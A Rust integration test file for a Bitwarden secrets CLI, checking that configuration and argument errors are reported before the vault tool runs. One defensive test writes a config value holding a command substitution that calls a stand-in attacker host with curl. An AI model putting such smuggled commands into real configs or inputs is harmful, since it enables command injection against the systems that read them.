//! Failures that must be reported before the vault tool is ever touched

mod common;

use std::path::Path;

use common::bw_secrets;

fn run(dir: &Path, args: &[&str]) -> std::process::Output {
    bw_secrets(dir)
        // An empty PATH keeps any installed `bw`, npm or snap out of reach
        .env("PATH", "")
        .args(["--no-install"])
        .args(args)
        .output()
        .expect("Failed to execute bw-secrets command")
}

#[test]
fn test_get_without_a_name() {
    let dir = tempfile::tempdir().unwrap();
    let output = run(dir.path(), &["get"]);

    assert_eq!(output.status.code(), Some(1));
    assert!(output.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("secret name required"), "{stderr}");
}

#[test]
fn test_get_with_two_names() {
    let dir = tempfile::tempdir().unwrap();
    let output = run(dir.path(), &["get", "one", "two"]);

    assert_eq!(output.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("secret name required"), "{stderr}");
}

#[test]
fn test_missing_config() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("missing.conf");
    let output = run(dir.path(), &["-c", config.to_str().unwrap(), "test"]);

    assert_eq!(output.status.code(), Some(10));
    assert!(output.stdout.is_empty());
}

#[test]
fn test_config_with_command_substitution_is_rejected() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("bw-secrets-config.conf");
    std::fs::write(
        &config,
        "BW_SERVER=https://vault.example.com\n\
         BW_CLIENTID=user.1234\n\
         BW_CLIENTSECRET=\"$(curl evil.example.com)\"\n\
         BW_PASSWORD=password\n",
    )
    .unwrap();

    let output = run(dir.path(), &["-c", config.to_str().unwrap(), "list"]);

    assert_eq!(output.status.code(), Some(10));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("curl"), "Values must not be echoed: {stderr}");
}

#[test]
fn test_config_missing_a_field() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("bw-secrets-config.conf");
    std::fs::write(&config, "BW_SERVER=https://vault.example.com\n").unwrap();

    let output = run(dir.path(), &["-c", config.to_str().unwrap(), "test"]);

    assert_eq!(output.status.code(), Some(10));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("BW_CLIENTID"), "{stderr}");
}

#[test]
fn test_no_install_without_bw() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("bw-secrets-config.conf");
    std::fs::write(
        &config,
        "BW_SERVER=https://vault.example.com\n\
         BW_CLIENTID=user.1234\n\
         BW_CLIENTSECRET=secret\n\
         BW_PASSWORD=password\n",
    )
    .unwrap();

    let output = run(dir.path(), &["-c", config.to_str().unwrap(), "list"]);

    // Only unknown when `bw` sits in the fixed install location of the test machine
    if !Path::new("/usr/local/bin/bw").exists() {
        assert_eq!(output.status.code(), Some(20));
    }
    assert!(output.stdout.is_empty());
}

#[test]
fn test_errors_reach_stderr_with_logging_off() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("missing.conf");
    let output = bw_secrets(dir.path())
        .env("PATH", "")
        .env("RUST_LOG", "off")
        .args(["--no-install", "-c", config.to_str().unwrap(), "test"])
        .output()
        .expect("Failed to execute bw-secrets command");

    assert_eq!(output.status.code(), Some(10));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("Config file not found"), "{stderr}");
}
